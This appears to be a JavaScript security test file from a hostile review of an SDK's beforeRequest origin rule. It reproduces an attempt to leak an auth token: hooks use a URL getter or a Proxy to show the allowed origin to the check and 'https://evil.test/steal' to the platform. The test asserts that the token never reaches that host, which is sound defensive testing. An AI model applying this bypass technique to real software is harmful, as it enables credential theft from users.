// Hostile review, fifth round: what a hostile app, server or platform can still do to the BUILT
// SDK (js-glue/dist, the wasm build, and js-glue/dist-js, the JavaScript build) through the
// newest code: the URL cache, the beforeRequest origin rule, refresh tokens, the platform
// adapters. Each case is a minimal reproduction of one finding, asserting what README.md
// promises. Every wait is bounded: a hang is a failing assertion, never a stuck test.
'use strict';

const test = require('node:test');
const assert = require('node:assert/strict');
const { BUILDS, sdk, outcome } = require('../hostile/harness');

const show = (r) => (r.hang ? 'hung' : r.ok ? `resolved ${JSON.stringify(r.value && (r.value.token !== undefined ? r.value.token : r.value.statusCode))}`
  : `rejected ${r.error && r.error.name}/${r.code}: ${String(r.error && r.error.message).slice(0, 160)}`);

// Every wx.request as the platform read it when it was called: "url token".
function sends(t) {
  const seen = [];
  const request = t.wx.request;
  t.wx.request = function (o) {
    seen.push(`${o.url} ${o.header ? o.header.token : ''}`);
    return request.apply(this, arguments);
  };
  return seen;
}

for (const build of BUILDS) {
  // ---- beforeRequest -------------------------------------------------------------------------

  test(`${build.name}: a beforeRequest hook whose options show one URL to the origin check and another to the platform (a getter, a Proxy): the token goes nowhere else`, async () => {
    const t = sdk({ build });
    const seen = sends(t);
    // Each answers baseUrl's URL on its first read of `url`, evil.test's afterwards.
    const twoFaced = (o) => {
      let reads = 0;
      return () => (reads++ ? 'https://evil.test/steal' : o.url);
    };
    const hooks = {
      'returns options with a url getter': (o) => {
        const url = twoFaced(o);
        const out = Object.assign({}, o);
        Object.defineProperty(out, 'url', { enumerable: true, get: url });
        return out;
      },
      'puts a url getter on its own options': (o) => {
        const url = twoFaced(o);
        Object.defineProperty(o, 'url', { enumerable: true, get: url });
      },
      'resolves to a Proxy': (o) => {
        const url = twoFaced(o);
        return Promise.resolve(new Proxy(o, { get: (target, key) => (key === 'url' ? url() : target[key]) }));
      },
    };
    for (const [name, hook] of Object.entries(hooks)) {
      const s = t.create({ beforeRequest: hook });
      const r = await outcome(s.request({ url: '/api/x' }));
      assert.ok(r.ok || r.code === 'BEFORE_REQUEST_FAILED', `${name}: ${show(r)}`);
    }
    assert.deepEqual(seen.filter((line) => /evil/.test(line)), [], 'the token went to another origin');
  });
}

